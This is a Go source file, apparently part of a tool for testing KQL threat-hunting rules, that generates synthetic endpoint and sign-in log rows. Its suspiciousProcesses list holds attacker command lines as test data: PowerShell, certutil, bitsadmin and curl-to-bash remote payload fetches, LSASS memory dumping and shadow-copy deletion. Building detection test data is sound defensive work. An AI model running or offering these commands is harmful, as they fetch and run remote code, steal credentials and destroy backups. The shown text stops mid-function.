package gen

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"github.com/kqlhunt/kqlhunt/internal/types"
)

// process is a program as endpoint tables report it.
type process struct {
	name, folder string
	commands     []string // command lines without the program path
	suspicious   bool
}

var benignProcesses = []process{
	{"svchost.exe", `C:\Windows\System32`, []string{"-k netsvcs -p -s Schedule", "-k LocalService -p -s EventSystem", "-k NetworkService -p"}, false},
	{"explorer.exe", `C:\Windows`, []string{""}, false},
	{"chrome.exe", `C:\Program Files\Google\Chrome\Application`, []string{"--type=renderer --lang=en-US", "--no-startup-window"}, false},
	{"msedge.exe", `C:\Program Files (x86)\Microsoft\Edge\Application`, []string{"--type=utility --utility-sub-type=network.mojom.NetworkService"}, false},
	{"OUTLOOK.EXE", `C:\Program Files\Microsoft Office\root\Office16`, []string{"/recycle", ""}, false},
	{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16`, []string{"/n \"C:\\Users\\Public\\Documents\\report.docx\""}, false},
	{"Teams.exe", `C:\Users\Public\AppData\Local\Microsoft\Teams\current`, []string{"--processStart \"Teams.exe\""}, false},
	{"cmd.exe", `C:\Windows\System32`, []string{"/c ipconfig /all", "/c dir C:\\Users", "/c whoami /groups"}, false},
	{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`, []string{"-NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\scripts\\inventory.ps1", "Get-Process | Sort-Object CPU"}, false},
	{"MsMpEng.exe", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0`, []string{""}, false},
	{"conhost.exe", `C:\Windows\System32`, []string{"0xffffffff -ForceV1"}, false},
	{"services.exe", `C:\Windows\System32`, []string{""}, false},
	{"lsass.exe", `C:\Windows\System32`, []string{""}, false},
	{"wmiprvse.exe", `C:\Windows\System32\wbem`, []string{"-secured -Embedding"}, false},
	{"sihost.exe", `C:\Windows\System32`, []string{""}, false},
	{"taskhostw.exe", `C:\Windows\System32`, []string{"Install $(Arg0)"}, false},
	{"bash", "/usr/bin", []string{"-c 'apt-get update'", "-l"}, false},
	{"python3", "/usr/bin", []string{"/opt/app/server.py"}, false},
}

var suspiciousProcesses = []process{
	{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`, []string{
		"-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
		"-NoP -NonI -W Hidden -EncodedCommand JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=",
		"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
		"Invoke-WebRequest -Uri http://203.0.113.9/p.exe -OutFile $env:TEMP\\p.exe"}, true},
	{"rundll32.exe", `C:\Windows\System32`, []string{"C:\\Users\\Public\\x.dll,DllRegisterServer", "comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full"}, true},
	{"certutil.exe", `C:\Windows\System32`, []string{"-urlcache -split -f http://198.51.100.23/a.txt a.exe", "-decode in.b64 out.exe"}, true},
	{"mshta.exe", `C:\Windows\System32`, []string{"http://203.0.113.44/run.hta", "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run\")"}, true},
	{"regsvr32.exe", `C:\Windows\System32`, []string{"/s /n /u /i:http://198.51.100.5/file.sct scrobj.dll"}, true},
	{"schtasks.exe", `C:\Windows\System32`, []string{"/create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute /mo 5"}, true},
	{"vssadmin.exe", `C:\Windows\System32`, []string{"delete shadows /all /quiet"}, true},
	{"wmic.exe", `C:\Windows\System32\wbem`, []string{"process call create \"cmd /c whoami\"", "shadowcopy delete"}, true},
	{"net.exe", `C:\Windows\System32`, []string{"user /domain", "group \"Domain Admins\" /domain", "localgroup administrators"}, true},
	{"bitsadmin.exe", `C:\Windows\System32`, []string{"/transfer job /download /priority high http://203.0.113.8/a.exe C:\\Temp\\a.exe"}, true},
	{"procdump.exe", `C:\Users\Public`, []string{"-ma lsass.exe C:\\Temp\\ls.dmp"}, true},
	{"curl", "/usr/bin", []string{"-s http://198.51.100.77/x.sh | bash"}, true},
}

var deviceNames = []string{
	"ws-fin-014", "ws-hr-007", "ws-dev-031", "ws-dev-032", "ws-exec-002", "lt-sales-118", "lt-sales-121", "srv-dc01",
	"srv-dc02", "srv-sql01", "srv-web01", "srv-file02", "lnx-app-04", "lnx-build-01", "mac-design-03",
}

var remoteURLs = []string{
	"www.microsoft.com", "login.microsoftonline.com", "outlook.office365.com", "github.com", "raw.githubusercontent.com",
	"pastebin.com", "update.contoso-cdn.net", "api.slack.com", "storage.googleapis.com", "ngrok.io", "dropbox.com",
}

var actionTypes = map[string][]string{
	"DeviceProcessEvents":           {"ProcessCreated"},
	"DeviceNetworkEvents":           {"ConnectionSuccess", "ConnectionFailed", "ConnectionRequest", "InboundConnectionAccepted", "ListeningConnectionCreated", "NetworkSignatureInspected", "HttpConnectionInspected", "DnsConnectionInspected", "SslConnectionInspected"},
	"DeviceFileEvents":              {"FileCreated", "FileModified", "FileRenamed", "FileDeleted"},
	"DeviceRegistryEvents":          {"RegistryValueSet", "RegistryKeyCreated", "RegistryKeyDeleted", "RegistryValueDeleted", "RegistryKeyRenamed"},
	"DeviceLogonEvents":             {"LogonSuccess", "LogonFailed", "LogonAttempted"},
	"DeviceImageLoadEvents":         {"ImageLoaded"},
	"DeviceEvents":                  {"AntivirusDetection", "PowerShellCommand", "ProcessCreatedUsingWmiQuery", "ScheduledTaskCreated", "ServiceInstalled", "UserAccountCreated", "NamedPipeEvent", "DnsQueryResponse", "CreateRemoteThreadApiCall", "LdapSearch", "SmartScreenUrlWarning", "AsrLsassCredentialTheftBlocked", "OpenProcessApiCall", "UsbDriveMounted", "BrowserLaunchedToOpenUrl", "ExploitGuardNonMicrosoftSignedBlocked", "FirewallInboundConnectionBlocked", "ReadProcessMemoryApiCall", "ShellLinkCreateFileEvent"},
	"IdentityLogonEvents":           {"LogonSuccess", "LogonFailed"},
	"IdentityDirectoryEvents":       {"Account Password changed", "Group Membership changed", "Account enabled", "Account disabled", "Directory Services replication", "Account Constrained Delegation SPNs changed", "Account Supported Encryption Types changed", "Private Data Retrieval", "Service creation"},
	"IdentityQueryEvents":           {"LDAP query", "DNS query", "SAMR query", "LDAP search", "SAM Resource Query"},
	"CloudAppEvents":                {"FileDownloaded", "FileUploaded", "MailItemsAccessed", "New-InboxRule", "Set-Mailbox", "Add member to role.", "Consent to application.", "Update application.", "FileAccessed", "UserLoggedIn", "Add-MailboxPermission"},
	"AADSignInEventsBeta":           {"Sign-in"},
	"AADSpnSignInEventsBeta":        {"Sign-in"},
	"DeviceNetworkInfo":             {""},
	"DeviceFileCertificateInfo":     {""},
	"EmailPostDeliveryEvents":       {"Phish ZAP", "Malware ZAP", "Manual Remediation", "Redelivery"},
	"IdentityInfo":                  {""},
	"ExposureGraphNodes":            {""},
	"BehaviorAnalytics":             {"Sign-in", "ResourceAccess", "Activity"},
	"McasShadowItReporting":         {""},
	"AzureDevOpsAuditing":           {"Git.RepositoryCreated", "Policy.PolicyConfigModified", "Security.ModifyPermission", "Token.PatCreateEvent"},
	"DeviceTvmInfoGathering":        {""},
	"DeviceTvmSoftwareEvidenceBeta": {""},
}

// signInResults are SigninLogs ResultType values: mostly successes, and the failures hunting rules count.
var signInResults = []struct {
	code, description string
}{
	{"0", ""}, {"0", ""}, {"0", ""}, {"0", ""}, {"0", ""}, {"0", ""},
	{"50126", "Error validating credentials due to invalid username or password."},
	{"50053", "The account is locked, you've tried to sign in too many times with an incorrect user ID or password."},
	{"50074", "Strong Authentication is required."},
	{"50140", "This error occurred due to 'Keep me signed in' interrupt when the user was signing in."},
	{"50057", "User account is disabled."},
	{"53003", "Access has been blocked by Conditional Access policies."},
	{"500121", "Authentication failed during strong authentication request."},
	{"50055", "The password is expired."},
	{"50076", "Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication."},
}

var appNames = []string{
	"Office 365 Exchange Online", "Microsoft Teams", "Azure Portal", "Microsoft Office", "Office 365 SharePoint Online",
	"Microsoft Azure CLI", "Azure Active Directory PowerShell", "My Apps", "Microsoft Authentication Broker", "Graph Explorer",
}

var countries = []string{"US", "US", "US", "GB", "DE", "FR", "IN", "JP", "NL", "RU", "CN", "BR", "NG"}

var securityEventIDs = []int64{4624, 4624, 4624, 4625, 4625, 4688, 4688, 4672, 4634, 4648, 4720, 4722, 4724, 4728, 4732, 4740, 4756, 4768, 4769, 4771, 4776, 5140, 5145, 7045, 1102, 4698, 4662}

// rowContext is the set of related entities one row talks about.
type rowContext struct {
	r        *rand.Rand
	w        *World
	table    string
	ts       time.Time
	bad      bool // this row is one of the suspicious ones
	user     *User
	device   string
	proc     process
	command  string
	parent   process
	remoteIP string
	localIP  string
	url      string
	sha256   string
	signIn   int // index into signInResults
	eventID  int64
}

func newRowContext(r *rand.Rand, w *World, table string, ts time.Time, day DayTraits) *rowContext {
	c := &rowContext{r: r, w: w, table: table, ts: ts}
	c.bad = r.Float64() < 0.06*day.ThreatBoost
	c.user = w.pickUser(r)
	c.device = deviceNames[r.IntN(len(deviceNames))]
	if c.bad {
		c.proc = suspiciousProcesses[r.IntN(len(suspiciousProcesses))]
	} else {
		c.proc = benignProcesses[r.IntN(len(benignProcesses))]
	}
	c.command = c.proc.commands[r.IntN(len(c.proc.commands))]
	c.parent = benignProcesses[r.IntN(len(benignProcesses))]
	if c.bad && r.IntN(2) == 0 {
		c.parent = process{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16`, []string{""}, false}
	}
	if r.IntN(6) == 0 {
		c.remoteIP = documentationIPv6(r)
	} else {
		c.remoteIP = publicIPv4(r)
	}
	if r.IntN(3) == 0 {
		c.remoteIP = fmt.Sprintf("10.%d.%d.%d", r.IntN(4), r.IntN(256), 1+r.IntN(254))
	}
	c.localIP = fmt.Sprintf("10.1.%d.%d", r.IntN(32), 1+r.IntN(254))
	if c.bad && day.Campaign != "" {
		c.url = day.Campaign
	} else {
		c.url = remoteURLs[r.IntN(len(remoteURLs))]
	}
	c.sha256 = hexString(r, 32)
	c.signIn = r.IntN(len(signInResults))
	if c.bad {
		c.signIn = 6 + r.IntN(len(signInResults)-6)
	}
	c.eventID = securityEventIDs[r.IntN(len(securityEventIDs))]
	return c
}

func hexString(r *rand.Rand, n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, 2*n)
	for i := range b {
		b[i] = digits[r.IntN(16)]
	}
	return string(b)
}

func (c *rowContext) pick(values ...string) string { return values[c.r.IntN(len(values))] }

func (c *rowContext) accountName() string { return strings.SplitN(c.user.UPN, "@", 2)[0] }

func (c *rowContext) sid() string {
	rid := 1100 + c.userIndex()
	return fmt.Sprintf("S-1-5-21-1004336348-1177238915-682003330-%d", rid)
}

func (c *rowContext) userIndex() int {
	for i := range c.w.Users {
		if &c.w.Users[i] == c.user {
			return i
		}
	}
	return 0
}

// objectID is a stable per-user GUID-shaped id, so joins on account object ids work across rows.
func (c *rowContext) objectID() string {
	return fmt.Sprintf("%08x-1c3d-4e5f-8a9b-%012x", 0x5a000000+c.userIndex(), 0xc0ffee000000+int64(c.userIndex()))
}

func (c *rowContext) deviceID() string {
	h := 0
	for _, ch := range c.device {
		h = h*31 + int(ch)
	}
	return fmt.Sprintf("%040x", uint64(h)*0x9e3779b97f4a7c15)
}

func (c *rowContext) timestamp(t time.Time) string { return formatTicks(t, 7) }

// value returns the cell for column f of this row.
func (c *rowContext) value(f types.Field) any {
	if c.r.IntN(40) == 0 && !essential[f.Name] {
		return nil // exports leave some cells empty
	}
	switch f.Type {
	case types.DateTime:
		return c.datetimeValue(f.Name)
	case types.Bool:
		return c.boolValue(f.Name)
	case types.Int, types.Long:
		return c.intValue(f.Name)
	case types.Real, types.Decimal:
		return c.realValue(f.Name)
	case types.GUID:
		return newGUID(c.r)
	case types.TimeSpan:
		return fmt.Sprintf("00:%02d:%02d", c.r.IntN(60), c.r.IntN(60))
	case types.Dynamic:
		return c.dynamicValue(f.Name)
	default:
		return c.stringValue(f.Name)
	}
}

// essential columns are never left empty: rules filter and join on them.
var essential = map[string]bool{
	"Timestamp": true, "TimeGenerated": true, "ActionType": true, "FileName": true, "DeviceName": true,
	"ProcessCommandLine": true, "ResultType": true, "EventID": true, "Type": true, "TenantId": true,
	"UserPrincipalName": true, "AccountUpn": true, "AccountName": true, "OperationName": true, "Computer": true,
}

func (c *rowContext) datetimeValue(name string) any {
	switch name {
	case "Timestamp", "TimeGenerated", "CreatedDateTime", "ActivityDateTime", "EventTime", "TimeCreated":
		return c.timestamp(c.ts)
	}
	if strings.Contains(name, "Creation") || strings.HasPrefix(name, "Start") || strings.Contains(name, "First") {
		return c.timestamp(c.ts.Add(-time.Duration(c.r.Int64N(int64(72 * time.Hour)))))
	}
	if strings.Contains(name, "End") || strings.Contains(name, "Last") || strings.Contains(name, "Received") {
		return c.timestamp(c.ts.Add(time.Duration(c.r.Int64N(int64(10 * time.Minute)))))
	}
	return c.timestamp(c.ts.Add(-time.Duration(c.r.Int64N(int64(30 * 24 * time.Hour)))))
}

func (c *rowContext) boolValue(name string) any {
	switch {
	case strings.Contains(name, "Success") || strings.Contains(name, "Enabled") || name == "IsCompliant" || name == "IsManaged":
		return !c.bad || c.r.IntN(3) == 0
	case strings.Contains(name, "Malicious") || strings.Contains(name, "Risk") || strings.Contains(name, "Suspicious"):
		return c.bad
	}
	return c.r.IntN(4) == 0
}

func (c *rowContext) intValue(name string) any {
	switch {
	case name == "EventID":
		if c.table == "Event" {
			return []int64{7036, 7040, 1000, 1001, 6005, 6006, 7045, 4104, 1, 3, 11, 4103}[c.r.IntN(12)]
		}
		return c.eventID
	case name == "ErrorCode" || name == "ResultCode":
		var code int64
		fmt.Sscan(signInResults[c.signIn].code, &code)
		return code
	case name == "LogonType":
		return []int64{2, 3, 3, 3, 5, 7, 10, 11}[c.r.IntN(8)]
	case strings.HasSuffix(name, "Port"):
		if strings.HasPrefix(name, "Local") || strings.HasPrefix(name, "Source") {
			return 49152 + c.r.Int64N(16000)
		}
		return []int64{443, 443, 443, 80, 445, 3389, 22, 53, 135, 389, 5985, 8080, 4444}[c.r.IntN(13)]
	case strings.HasSuffix(name, "ProcessId") || name == "ProcessId":
		return 4 + c.r.Int64N(20000)
	case strings.Contains(name, "Size") || strings.Contains(name, "Bytes") || strings.Contains(name, "Quantity"):
		return c.r.Int64N(5_000_000)
	case strings.Contains(name, "Severity") || strings.Contains(name, "Level"):
		return c.r.Int64N(5)
	case strings.Contains(name, "Count"):
		return c.r.Int64N(50)
	case name == "ReportId":
		return c.r.Int64N(1 << 40)
	case strings.Contains(name, "Duration") || strings.Contains(name, "Ms"):
		return c.r.Int64N(5000)
	}
	return c.r.Int64N(1000)
}

func (c *rowContext) realValue(name string) any {
	switch {
	case strings.Contains(name, "Score") || strings.Contains(name, "Cvss"):
		return float64(c.r.IntN(100)) / 10
	case strings.Contains(name, "Latitude"):
		return -60 + c.r.Float64()*120
	case strings.Contains(name, "Longitude"):
		return -180 + c.r.Float64()*360
	case name == "Quantity" || strings.Contains(name, "Billed"):
		return c.r.Float64() * 1000
	}
	return float64(c.r.IntN(100000)) / 100
}

func (c *rowContext) dynamicValue(name string) any {
	switch name {
	case "DeviceDetail":
		return map[string]any{"deviceId": c.deviceID()[:36], "displayName": c.device, "operatingSystem": c.pick("Windows 10", "Windows", "MacOs", "Ios", "Android"), "browser": c.pick("Edge 120.0.0", "Chrome 119.0.0", "Firefox 121.0", "Safari"), "isCompliant": !c.bad, "isManaged": !c.bad, "trustType": c.pick("Azure AD joined", "Hybrid Azure AD joined", "")}
	case "LocationDetails":
		return map[string]any{"city": c.pick("Seattle", "London", "Berlin", "Lagos", "Moscow"), "state": c.pick("Washington", "England", "Berlin", ""), "countryOrRegion": c.pick(countries...), "geoCoordinates": map[string]any{"latitude": 47.6, "longitude": -122.3}}
	case "Status":
		res := signInResults[c.signIn]
		code := 0
		fmt.Sscan(res.code, &code)
		return map[string]any{"errorCode": code, "failureReason": res.description, "additionalDetails": ""}
	case "InitiatedBy":
		return map[string]any{"user": map[string]any{"id": c.objectID(), "userPrincipalName": c.user.UPN, "ipAddress": c.remoteIP, "displayName": nil}}
	case "TargetResources":
		return []any{map[string]any{"id": newGUID(c.r), "displayName": c.pick("Global Administrator", "Security Reader", "App1", ""), "type": c.pick("User", "Role", "Application", "ServicePrincipal", "Group"), "userPrincipalName": c.w.pickUser(c.r).UPN,
			"modifiedProperties": []any{map[string]any{"displayName": c.pick("Role.DisplayName", "AppAddress", "StrongAuthenticationMethod"), "oldValue": "[]", "newValue": "[\"" + c.pick("Global Administrator", "https://app.example.org") + "\"]"}}}}
	case "AdditionalDetails":
		return []any{map[string]any{"key": "User-Agent", "value": "Mozilla/5.0"}, map[string]any{"key": "ipaddr", "value": c.remoteIP}}
	case "Entities":
		return []any{map[string]any{"$id": "1", "Type": "account", "Name": c.accountName(), "UPNSuffix": c.w.Domain}, map[string]any{"$id": "2", "Type": "ip", "Address": c.remoteIP}}
	case "AdditionalFields":
		if c.table == "DeviceTvmInfoGathering" {
			// Assessment results the TVM hunting queries read by name.
			return map[string]any{"Log4JEnvironmentVariableMitigation": c.pick("true", "false", "RebootRequired"), "IsWindowsLtscVersionRunning": c.pick("true", "false"),
				"TlsClient10": c.pick("Enabled", "Disabled"), "TlsServer10": c.pick("Enabled", "Disabled"), "AsrConfigurationStates": map[string]any{"BlockCredentialStealing": c.pick("Block", "Audit", "Off")}}
		}
		return c.bag()
	case "Properties", "ExtendedProperties", "RawEventData", "Data":
		return c.bag()
	}
	if strings.HasSuffix(name, "s") || strings.Contains(name, "List") || strings.Contains(name, "Ids") {
		return []any{c.pick(c.user.UPN, c.remoteIP, c.device, "Mail.Read", "Directory.ReadWrite.All"), c.pick("Contoso", "Exchange", "User.Read")}
	}
	return c.bag()
}

func (c *rowContext) bag() map[string]any {
	return map[string]any{"ActorUpn": c.user.UPN, "IPAddress": c.remoteIP, "DeviceName": c.device, "Count": c.r.IntN(10), "IsSuspicious": c.bad}
}

// stringValue picks a string by the column's name; the order of the cases matters (most specific first).
func (c *rowContext) stringValue(name string) any {
	lower := strings.ToLower(name)
	switch name {
	case "ActionType":
		if list, ok := actionTypes[c.table]; ok {
			if c.bad && len(list) > 1 {
				return list[len(list)/2+c.r.IntN(len(list)-len(list)/2)]
			}
			return list[c.r.IntN(len(list))]
		}
		return c.pick("Create", "Update", "Delete", "Read")
	case "Type":
		if documentsSentinelColumns[c.table] {
			return c.pick("User", "User", "User", "ServiceAccount")
		}
		return c.table
	case "TenantId", "AADTenantId":
		return c.w.TenantID
	case "SourceSystem":
		return c.pick("Azure", "OpsManager", "Linux")
	case "ResultType":
		if c.table == "SigninLogs" || strings.Contains(c.table, "SignIn") {
			return signInResults[c.signIn].code
		}
		return c.pick("Success", "Success", "Failure")
	case "ResultDescription", "ErrorDescription", "FailureReason":
		return signInResults[c.signIn].description
	case "ErrorCode":
		return signInResults[c.signIn].code
	case "FileName", "ImageFileName", "NewProcessName", "ProcessName", "Process":
		if name == "NewProcessName" {
			return c.proc.folder + `\` + c.proc.name
		}
		return c.proc.name
	case "FolderPath":
		return c.proc.folder + `\` + c.proc.name
	case "ProcessCommandLine", "CommandLine":
		return strings.TrimSpace(c.proc.name + " " + c.command)
	case "InitiatingProcessFileName", "ParentProcessName", "InitiatingProcessParentFileName":
		return c.parent.name
	case "InitiatingProcessFolderPath":
		return c.parent.folder + `\` + c.parent.name
	case "InitiatingProcessCommandLine":
		return strings.TrimSpace(c.parent.name + " " + c.parent.commands[0])
	case "EventData", "ParameterXml":
		return fmt.Sprintf("<DataItem><EventData><Data Name=\"SubjectUserName\">%s</Data><Data Name=\"IpAddress\">%s</Data></EventData></DataItem>", c.accountName(), c.remoteIP)
	case "Computer", "DeviceName", "Workstation", "WorkstationName", "HostName", "Hostname", "DestinationHostName", "SourceHostName", "RemoteDeviceName", "TargetDeviceName":
		return c.device + "." + c.w.Domain
	case "DeviceId", "MachineId", "AadDeviceId":
		return c.deviceID()
	case "OperationName", "Operation", "OperationNameValue":
		return c.operation()
	case "Category":
		return c.pick("SignInLogs", "UserManagement", "ApplicationManagement", "RoleManagement", "Policy", "Administrative", "Security")
	case "Result":
		return c.pick("success", "success", "failure")
	case "SHA256", "InitiatingProcessSHA256", "FileHash", "Sha256":
		return c.sha256
	case "SHA1", "InitiatingProcessSHA1":
		return c.sha256[:40]
	case "MD5", "InitiatingProcessMD5":
		return c.sha256[:32]
	case "AppDisplayName", "Application", "ApplicationName", "ResourceDisplayName", "AppName":
		return appNames[c.r.IntN(len(appNames))]
	case "ClientAppUsed":
		if c.bad {
			return c.pick("IMAP4", "POP3", "Authenticated SMTP", "Exchange ActiveSync", "Other clients")
		}
		return c.pick("Browser", "Mobile Apps and Desktop clients")
	case "UserAgent":
		return c.pick("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "python-requests/2.31.0", "Microsoft Office/16.0", "curl/8.4.0")
	case "Country", "CountryCode", "Location", "CountryOrRegion", "SourceCountry":
		return c.pick(countries...)
	case "Severity", "AlertSeverity":
		return c.pick("Informational", "Low", "Medium", "High")
	case "Level", "EventLevelName", "SeverityLevel":
		return c.pick("Informational", "Warning", "Error", "Information")
	case "Protocol":
		return c.pick("Tcp", "Udp", "Kerberos", "Ntlm", "LDAP")
	case "LogonType":
		return c.pick("Interactive", "Network", "RemoteInteractive", "Batch", "Service")
	case "Url", "RemoteUrl", "FileOriginUrl", "RequestUri", "RequestURL", "Uri", "Url_CF":
		return "https://" + c.url + "/" + slug(c.r, 6)
	case "Status", "AlertStatus":
		return c.pick("New", "Active", "Resolved", "InProgress", "Succeeded")
	case "Activity", "Description", "AlertName", "DisplayName", "Title", "Message", "RenderedDescription", "SyslogMessage":
		return c.message(name)
	case "EventSourceName", "Source", "ProviderName":
		return c.pick("Microsoft-Windows-Security-Auditing", "Service Control Manager", "Microsoft-Windows-Sysmon", "PowerShell")
	case "EventLog", "Channel":
		return c.pick("Security", "System", "Application", "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-PowerShell/Operational")
	case "ProductName", "DeviceProduct", "VendorName", "DeviceVendor", "ProviderDisplayName":
		return c.pick("Microsoft Defender for Endpoint", "Azure Active Directory Identity Protection", "Microsoft Defender for Cloud", "Palo Alto Networks", "Fortinet")
	case "OSPlatform", "OsPlatform", "OSType", "OSName":
		return c.pick("Windows10", "Windows11", "WindowsServer2019", "WindowsServer2022", "Linux", "macOS")
	case "RegistryKey":
		return c.pick(`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\RunOnce`, `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\WinDefend`, `HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender`)
	case "RegistryValueName":
		return c.pick("Updater", "DisableAntiSpyware", "Start", "OneDrive")
	case "RegistryValueData":
		return c.pick("1", "0", `C:\Users\Public\u.exe`, `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`)
	case "CveId":
		return fmt.Sprintf("CVE-%d-%d", 2019+c.r.IntN(7), 1000+c.r.IntN(40000))
	case "SoftwareName":
		return c.pick("chrome", "office", "windows_10", "edge", "java_runtime_environment", "7-zip", "log4j")
	case "SoftwareVendor":
		return c.pick("google", "microsoft", "oracle", "apache", "7-zip")
	case "SoftwareVersion", "OSVersion", "OsVersion", "ClientVersion", "Version":
		return fmt.Sprintf("%d.%d.%d.%d", 1+c.r.IntN(20), c.r.IntN(10), c.r.IntN(30000), c.r.IntN(1000))
	case "VulnerabilitySeverityLevel", "RiskLevel", "RiskLevelDuringSignIn", "RiskLevelAggregated", "RiskState", "ExposureLevel":
		if c.bad {
			return c.pick("high", "High", "medium")
		}
		return c.pick("none", "low", "Low", "Medium")
	case "Caller":
		return c.user.UPN
	case "CallerIpAddress", "CallerIPAddress":
		return c.remoteIP
	case "ResourceId", "_ResourceId", "ResourceURI":
		return fmt.Sprintf("/subscriptions/%s/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/%s", c.w.TenantID, c.device)
	case "SubscriptionId", "_SubscriptionId":
		return c.w.TenantID
	case "Facility":
		return c.pick("auth", "authpriv", "daemon", "kern", "syslog", "user", "cron")
	case "ProcessCommandLineHash", "Hash":
		return c.sha256
	case "Entities":
		// SecurityAlert keeps its entities as JSON text; rules parse_json and mv-expand it.
		return jsonText(c.dynamicValue("Entities"))
	case "IPAddresses":
		return jsonText([]any{map[string]any{"IPAddress": c.localIP, "SubnetPrefix": 24, "AddressType": "Private"}, map[string]any{"IPAddress": c.remoteIP, "SubnetPrefix": nil, "AddressType": "Public"}})
	case "ConnectedNetworks":
		return jsonText([]any{map[string]any{"Name": c.w.Domain, "Description": c.w.Domain, "IsConnectedToInternet": true, "Category": c.pick("Domain", "Public", "Private")}})
	case "DnsAddresses", "DefaultGateways":
		return jsonText([]any{fmt.Sprintf("10.1.0.%d", 1+c.r.IntN(4))})
	}
	switch {
	case strings.HasSuffix(name, "Upn") || strings.HasSuffix(name, "UPN") || strings.Contains(name, "UserPrincipalName") || lower == "userid" || strings.HasSuffix(name, "EmailAddress") || name == "Identity" || name == "AlternateSignInName" || strings.Contains(lower, "recipient") || strings.Contains(lower, "sender") && !strings.Contains(lower, "ip"):
		return c.user.UPN
	case strings.HasSuffix(name, "Sid") || strings.HasSuffix(name, "SID"):
		return c.sid()
	case strings.HasSuffix(name, "ObjectId") || strings.HasSuffix(lower, "userid") || strings.HasSuffix(name, "AccountId") || name == "AadUserId":
		return c.objectID()
	case strings.Contains(name, "AccountName") || strings.HasSuffix(name, "UserName") || name == "Account" || name == "User" || name == "TargetAccount" || name == "SubjectAccount":
		if name == "Account" || name == "TargetAccount" || name == "SubjectAccount" {
			return strings.ToUpper(strings.SplitN(c.w.Domain, ".", 2)[0]) + `\` + c.accountName()
		}
		return c.accountName()
	case strings.Contains(name, "Domain"):
		return strings.ToUpper(strings.SplitN(c.w.Domain, ".", 2)[0])
	case strings.Contains(name, "DisplayName") || strings.HasSuffix(name, "Name") && strings.Contains(name, "Account"):
		return strings.Title(strings.ReplaceAll(c.accountName(), ".", " ")) //nolint:staticcheck // ASCII names only
	case strings.HasSuffix(name, "IPAddress") || strings.HasSuffix(name, "IpAddress") || strings.HasSuffix(name, "IP") || strings.HasSuffix(name, "Ip") || strings.HasSuffix(name, "IPAddresses") || strings.HasSuffix(name, "IPv4"):
		if strings.HasPrefix(name, "Local") || strings.HasPrefix(name, "Private") || strings.HasPrefix(name, "Destination") {
			return c.localIP
		}
		return c.remoteIP
	case strings.HasSuffix(name, "Url") || strings.HasSuffix(name, "Uri") || strings.HasSuffix(name, "URL"):
		return "https://" + c.url + "/" + slug(c.r, 5)
	case strings.Contains(name, "Domain") || strings.HasSuffix(name, "Fqdn") || strings.HasSuffix(name, "Host"):
		return c.url
	case strings.HasSuffix(name, "Id") || strings.HasSuffix(name, "ID") || strings.HasSuffix(name, "Guid"):
		return newGUID(c.r)
	case strings.HasSuffix(name, "Path") || strings.HasSuffix(name, "Folder"):
		return c.proc.folder
	case strings.HasSuffix(name, "FileName"):
		return c.proc.name
	case strings.HasSuffix(name, "CommandLine"):
		return strings.TrimSpace(c.proc.name + " " + c.command)
	case strings.HasSuffix(name, "Details") || strings.HasSuffix(name, "Fields") || strings.HasSuffix(name, "Properties") || strings.HasSuffix(name, "Policies") || strings.HasSuffix(name, "Info") || strings.HasSuffix(name, "Data") || strings.HasSuffix(name, "Json") || strings.HasSuffix(name, "Parameters"):
		// Columns documented as JSON held in a string.
		return jsonText(c.bag())
	case strings.HasSuffix(name, "Type"):
		return c.pick("User", "Device", "Application", "ServicePrincipal", "Group")
	case strings.HasSuffix(name, "Sha256") || strings.HasSuffix(name, "Hash"):
		return c.sha256
	case strings.HasSuffix(name, "Tags") || strings.HasSuffix(name, "List"):
		return jsonText([]any{c.pick("Contoso", "VIP", "Server"), c.pick("Finance", "HR", "IT")})
	}
	return c.pick("Contoso", "Default", "Enabled", "Standard", "Other", slug(c.r, 8))
}

func (c *rowContext) operation() string {
	switch c.table {
	case "AuditLogs":
		return c.pick("Add member to role", "Add user", "Update user", "Consent to application", "Add service principal credentials", "Update application – Certificates and secrets management ", "Reset user password", "Add owner to application", "Delete user", "Change user password")
	case "AzureActivity":
		return c.pick("Microsoft.Compute/virtualMachines/write", "Microsoft.Authorization/roleAssignments/write", "Microsoft.Network/networkSecurityGroups/securityRules/write", "Microsoft.Storage/storageAccounts/listKeys/action", "Microsoft.KeyVault/vaults/write")
	case "OfficeActivity":
		return c.pick("FileAccessed", "FileDownloaded", "New-InboxRule", "Set-InboxRule", "MailItemsAccessed", "Add-MailboxPermission", "FileUploaded", "Set-Mailbox", "SharingInvitationCreated", "MemberAdded")
	case "SigninLogs", "AADNonInteractiveUserSignInLogs", "AADServicePrincipalSignInLogs", "AADManagedIdentitySignInLogs":
		return "Sign-in activity"
	}
	return c.pick("Create", "Update", "Delete", "List", "Read")
}

func (c *rowContext) message(name string) string {
	if c.bad {
		return c.pick("Suspicious PowerShell command line", "Possible credential dumping", "Unfamiliar sign-in properties", "Mass download by a single user", "Suspicious inbox forwarding rule")
	}
	switch name {
	case "Activity":
		return fmt.Sprintf("%d - %s", c.eventID, c.pick("An account was successfully logged on.", "A new process has been created.", "An account failed to log on."))
	}
